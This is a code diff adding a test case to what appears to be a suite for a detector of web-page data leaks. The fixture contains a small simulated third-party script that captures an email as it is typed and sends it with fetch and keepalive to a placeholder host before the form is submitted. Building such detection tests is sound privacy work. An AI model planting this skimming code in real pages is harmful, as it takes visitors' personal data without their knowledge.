@@ -120,6 +120,37 @@ export default [
     allow: ['leak', 'keylog'],
   },
   {
+    id: 'lk-request-blob',
+    reason: 'the address is a file in a request that was made before it is sent',
+    host: 'willow-baskets.example',
+    page: loads('https://cdn.readymade.example/r.js').replace(
+      '</main>',
+      `${form(field('Email', MAIL))}</main>`,
+    ),
+    web: {
+      'cdn.readymade.example': {
+        '/r.js': file(() => {
+          document.querySelector('input').onchange = ({ target }) => {
+            const body = new Blob([JSON.stringify({ visitor: target.value })]);
+            const made = new Request('https://in.readymade.example/r', { method: 'POST', body });
+            void fetch(new Request(made, { keepalive: true }));
+          };
+        }),
+      },
+    },
+    actions: [
+      { type: { sel: 'input', text: 'lena.willow@post.example' } },
+      { click: 'h1' },
+      { wait: 800 },
+    ],
+    proof: ['in.readymade.example/r'],
+    expect: [
+      { kind: 'leak', data: 'email', to: 'in.readymade.example', before: 'submit' },
+      { kind: 'form-data', fields: ['email'] },
+    ],
+    allow: ['tracker'],
+  },
+  {
     id: 'ok-form-events',
     reason:
       'a measuring company is told that a form was begun and finished, and nothing of what it holds',
